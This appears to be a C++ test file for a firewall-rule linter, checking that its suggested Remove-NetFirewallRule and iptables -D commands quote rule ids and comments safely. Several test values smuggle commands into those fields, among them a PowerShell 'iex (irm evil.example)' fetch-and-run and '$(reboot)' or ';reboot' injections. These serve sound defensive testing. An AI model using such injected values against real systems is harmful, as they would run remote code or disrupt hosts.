// What lint says to remove: a command that does that and nothing else, and of several commands, any and all of them.
#include <sstream>

#include "support/catch.hpp"
#include "support/program.hpp"

namespace {

std::string local_store(const std::string& rules) {
    const std::string key =
        "[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\";
    std::string text = "Windows Registry Editor Version 5.00\r\n\r\n";
    for (const std::string profile : {"DomainProfile", "StandardProfile", "PublicProfile"})
        text +=
            key + profile + "]\r\n\"EnableFirewall\"=dword:00000001\r\n\"DefaultInboundAction\"=dword:00000001\r\n\r\n";
    return text + key + "FirewallRules]\r\n" + rules;
}

// Two rules of which the second, with this id, repeats the first.
std::string repeated(const std::string& id, const std::string& name = "Web") {
    const std::string start = "\"=\"v2.31|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=80|Name=";
    return "\"first" + start + name + "|\"\r\n\"" + id + start + name + "|\"\r\n";
}

std::string rule(const std::string& id, const std::string& rest) {
    return "\"" + id + "\"=\"v2.31|Action=Allow|Active=TRUE|Dir=In|Protocol=6|" + rest + "|\"\r\n";
}

// Every message about a rule's own weight, and what to try: "a changes nothing ... => try, proven iptables -D ...".
std::vector<std::string> advice(const std::string& name, const std::string& text,
                                const std::vector<std::string>& options = {}) {
    const std::string directory = fresh_directory("removal");
    write_file(directory, name, text);
    std::vector<std::string> words = {"lint", "--select", "duplicate-rule,redundant-rule,unreachable-rule"};
    words.insert(words.end(), options.begin(), options.end());
    words.push_back(name);
    const Ran ran = run_fwproof(words, directory);
    CHECK(ran.err.empty());
    std::vector<std::string> found;
    std::istringstream lines(ran.out);
    for (std::string line; std::getline(lines, line);) {
        if (const auto mark = line.find("-rule]: "); mark != std::string::npos) found.push_back(line.substr(mark + 8));
        if (line.starts_with("  try")) found.back() += " => " + line.substr(2);
        if (line.starts_with("              the number")) found.back() += " (" + line.substr(14) + ")";
    }
    return found;
}

using Lines = std::vector<std::string>;

std::string table(const std::string& rules) { return "*filter\n:INPUT DROP [0:0]\n" + rules + "COMMIT\n"; }

}  // namespace

TEST_CASE("the id of a rule is one word of the command") {
    struct Case {
        std::string id, command;
    };
    const std::vector<Case> cases = {
        {"{A-1}", "{A-1}'"},
        {"it's", "it''s'"},
        {"x'; iex (irm evil.example); '", "x''; iex (irm evil.example); '''"},
        {"x\xe2\x80\x99; calc; \xe2\x80\x98", "x\xe2\x80\x99\xe2\x80\x99; calc; \xe2\x80\x98\xe2\x80\x98'"},
        {"a\xe2\x80\x9a"
         "b\xe2\x80\x9b",
         "a\xe2\x80\x9a\xe2\x80\x9a"
         "b\xe2\x80\x9b\xe2\x80\x9b'"},
    };
    for (const auto& item : cases) {
        INFO(item.id);
        const Lines found = advice("host.reg", local_store(repeated(item.id)));
        REQUIRE(found.size() == 1);
        CHECK(found[0].substr(found[0].find(" => ")) ==
              " => try, proven Remove-NetFirewallRule -Name '" + item.command);
    }
}

TEST_CASE("no command where the cmdlet would take the id for other rules, or knows the rule by none") {
    for (const std::string id : {"*", "r[1]", "a?b", "a`b", "a\tb"}) {
        INFO(id);
        const Lines found = advice("host.reg", local_store(repeated(id)));
        REQUIRE(found.size() == 1);
        CHECK(found[0].find("=>") == std::string::npos);
    }
    const std::string block =
        "Enabled:          Yes\nDirection:        In\nProfiles:         Domain,Private,Public\n"
        "LocalIP:          Any\nRemoteIP:         Any\nProtocol:         TCP\nLocalPort:        80\n"
        "RemotePort:       Any\nEdge traversal:   No\nProgram:          Any\nService:          Any\n"
        "InterfaceTypes:   Any\nSecurity:         NotRequired\nAction:           Allow\n\n";
    const std::string hyphens(70, '-');
    const Lines listed = advice("host.txt", "Rule Name:        Web\n" + hyphens + "\n" + block +
                                                "Rule Name:        Web again\n" + hyphens + "\n" + block + "Ok.\n");
    REQUIRE(listed.size() == 1);
    CHECK(listed[0].find("=>") == std::string::npos);
}

TEST_CASE("a rule of another store than the local one has no command that removes it there") {
    std::string text = local_store(repeated("second"));
    const std::string local = "SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy";
    for (auto at = text.find(local); at != std::string::npos; at = text.find(local))
        text.replace(at, local.size(), "SOFTWARE\\Policies\\Microsoft\\WindowsFirewall");
    CHECK(advice("gpo.reg", text) ==
          Lines{"second (permit) repeats first => try         remove it from the group policy store"});
}

TEST_CASE("what is true of one profile is not taken for the whole rule") {
    const std::string rules = rule("r0", "LPort=80") + rule("big", "LPort2_10=79-81|Profile=Domain");
    CHECK(advice("host.reg", local_store(rules)).empty());
    CHECK(advice("host.reg", local_store(rules), {"--network-profile", "domain"}) ==
          Lines{"r0 (permit) changes nothing: big decides the same for all its packets => try         remove it if it "
                "changes nothing in the other profiles either: run again without a chosen profile"});
}

TEST_CASE("all that is proven to go may go together") {
    const std::string port = "LPort=80";
    CHECK(advice("host.reg", local_store(rule("a", port) + rule("b", port) + rule("c", port))) ==
          Lines{"b (permit) repeats a => try, proven Remove-NetFirewallRule -Name 'b'",
                "c (permit) repeats a => try, proven Remove-NetFirewallRule -Name 'c'"});
    // a is not needed because of b, and b not because of c and a: one of the two must stay.
    CHECK(advice("host.reg",
                 local_store(rule("a", "LPort=80") + rule("b", "LPort2_10=80-81") + rule("c", "LPort2_10=81-90"))) ==
          Lines{"a (permit) changes nothing: b decides the same for all its packets => try, proven "
                "Remove-NetFirewallRule -Name 'a'",
                "b (permit) changes nothing: c decides the same for all its packets => try         remove it or a, not "
                "both"});
    const std::string web = "-A INPUT -p tcp -m tcp --dport 80 -j ACCEPT\n";
    CHECK(advice("a.v4", table("-A INPUT -p tcp -m tcp --dport 22 -j ACCEPT\n" + web + web + web)) ==
          Lines{"INPUT rule 3 (permit) repeats INPUT rule 2 (the number is that of the export: of several, remove the "
                "highest first) => try, proven iptables -D INPUT 3",
                "INPUT rule 4 (permit) repeats INPUT rule 2 (the number is that of the export: of several, remove the "
                "highest first) => try, proven iptables -D INPUT 4"});
}

TEST_CASE("a rule's words reach iptables and not the shell") {
    const auto command = [](const std::string& words) {
        const Lines found =
            advice("a.v4", table("-A INPUT -p tcp -m tcp --dport 80 -j ACCEPT\n-A INPUT -p tcp -m tcp --dport 80 " +
                                 words + " -j ACCEPT\n"));
        REQUIRE(found.size() == 1);
        const auto mark = found[0].find(" => ");
        return mark == std::string::npos ? std::string() : found[0].substr(mark + 4);
    };
    const std::string start = "try, proven iptables -D INPUT -p tcp -m tcp --dport 80 -m comment --comment ";
    CHECK(command("-m comment --comment \"web; for all\"") == start + "\"web; for all\" -j ACCEPT");
    CHECK(command("-m comment --comment \"a $(reboot) `b`\"") == start + "'a $(reboot) `b`' -j ACCEPT");
    CHECK(command("-m comment --comment \"it's \\\"new\\\"!\"") == start + "'it'\\''s \"new\"!' -j ACCEPT");
    CHECK(command("-m comment --comment x;reboot").empty());
}
